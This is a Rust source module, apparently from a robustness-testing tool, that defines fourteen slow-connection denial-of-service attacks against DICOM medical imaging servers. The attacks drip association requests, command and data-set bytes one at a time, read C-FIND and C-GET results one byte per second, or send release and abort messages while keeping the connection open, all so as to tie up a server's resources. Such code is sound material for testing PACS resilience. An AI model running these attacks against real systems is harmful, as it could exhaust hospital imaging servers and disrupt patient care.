//! Peers that say, or take, a byte at a time, or nothing any more.

use super::line::Line;
use super::observe::{Attack, Needs};
use super::pace::Pace;
use super::target::{ATTACKER, Target};
use super::wire::{self, ECHO, FIND, GET, LAST, STORE};

/// Longer than anybody is watched.
const ENDLESS: usize = 4096;

/// All of them: each phase of an association, and its end.
pub const DRIPS: [Attack; 14] = [
    Attack::new("says nothing", says_nothing),
    Attack::new("A-ASSOCIATE-RQ, 1 byte/s", drips_associate_rq),
    Attack::new("associated, says nothing", associated_says_nothing),
    Attack::new("header of a P-DATA-TF, 1 byte in 10 s", drips_header),
    Attack::new("PDV of a command, 1 byte/s", drips_command),
    Attack::new("C-STORE-RQ without its data set", store_without_data_set),
    Attack::new("data set of a C-STORE, within a PDV, 1 byte/s", drips_data_set),
    Attack::new("data set of a C-STORE, a PDU of 2 bytes a second", drips_data_set_by_pdus),
    Attack::new("identifier of a C-FIND, within a PDV, 1 byte/s", drips_identifier).needs(Needs::Archive),
    Attack::new("identifier of a C-FIND, a PDU of 2 bytes a second", drips_identifier_by_pdus)
        .needs(Needs::Archive),
    Attack::new("reads the matches of a C-FIND, 1 byte/s", sips_matches)
        .needs(Needs::Content(400, 10_000, 16)),
    Attack::new("reads the instances of a C-GET, 1 byte/s", sips_instances).needs(Needs::Content(
        24,
        0,
        1 << 20,
    )),
    Attack::new("A-RELEASE-RQ, does not close", releases_and_stays),
    Attack::new("A-ABORT, does not close", aborts_and_stays),
];

fn says_nothing(target: &Target, pace: &Pace) -> Result<Line, String> {
    target.open(pace)
}

fn drips_associate_rq(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.open(pace)?;
    // longer than it is watched
    let contexts = [ECHO, STORE, FIND, GET];
    line.drip(&wire::associate_rq(target.scp.title(), ATTACKER, &contexts), pace.drip);
    Ok(line)
}

fn associated_says_nothing(target: &Target, pace: &Pace) -> Result<Line, String> {
    target.associate(&[STORE], pace)
}

fn drips_header(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.drip(&wire::c_store_rq(STORE, 1, "1.2.3.1"), pace.slow);
    Ok(line)
}

fn drips_command(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    let mut elements = wire::request(STORE.1, 0x0001, 1, true);
    elements.push(wire::element(0x0000_5110, &[b'c'; ENDLESS]));
    let command = wire::command(STORE.0, &elements);
    line.send(&command[..12]);
    line.drip(&command[12..], pace.drip);
    Ok(line)
}

fn store_without_data_set(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.3.1"));
    Ok(line)
}

fn drips_data_set(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.3.1"));
    let pdu = wire::p_data(STORE.0, LAST, &wire::instance("1.2.3.1", 0, ENDLESS));
    line.send(&pdu[..12]);
    line.drip(&pdu[12..], pace.drip);
    Ok(line)
}

fn drips_data_set_by_pdus(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::c_store_rq(STORE, 1, "1.2.3.1"));
    drip_by_pdus(&mut line, STORE.0, &wire::instance("1.2.3.1", 0, ENDLESS), pace);
    Ok(line)
}

pub(super) fn drips_identifier(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[FIND], pace)?;
    line.send(&wire::query_rq(FIND, 1));
    let pdu = wire::p_data(FIND.0, LAST, &long_identifier());
    line.send(&pdu[..12]);
    line.drip(&pdu[12..], pace.drip);
    Ok(line)
}

pub(super) fn drips_identifier_by_pdus(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[FIND], pace)?;
    line.send(&wire::query_rq(FIND, 1));
    drip_by_pdus(&mut line, FIND.0, &long_identifier(), pace);
    Ok(line)
}

fn drip_by_pdus(line: &mut Line, context: u8, bytes: &[u8], pace: &Pace) {
    // of an even length: some take no other fragment
    line.drip_pdus(bytes.chunks_exact(2).map(|two| wire::p_data(context, 0, two)), pace.drip);
}

fn long_identifier() -> Vec<u8> {
    [wire::study_identifier(), wire::element(0x0020_4000, &vec![b'c'; ENDLESS])].concat()
}

pub(super) fn sips_matches(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[FIND], pace)?;
    line.send(&wire::query_rq(FIND, 1));
    line.send(&wire::p_data(FIND.0, LAST, &wire::image_identifier()));
    line.sip(pace.drip);
    Ok(line)
}

fn sips_instances(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[GET, STORE], pace)?;
    line.send(&wire::query_rq(GET, 1));
    line.send(&wire::p_data(GET.0, LAST, &wire::study_identifier()));
    line.sip(pace.drip);
    Ok(line)
}

fn releases_and_stays(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::ending(5));
    Ok(line)
}

fn aborts_and_stays(target: &Target, pace: &Pace) -> Result<Line, String> {
    let mut line = target.associate(&[STORE], pace)?;
    line.send(&wire::ending(7));
    Ok(line)
}
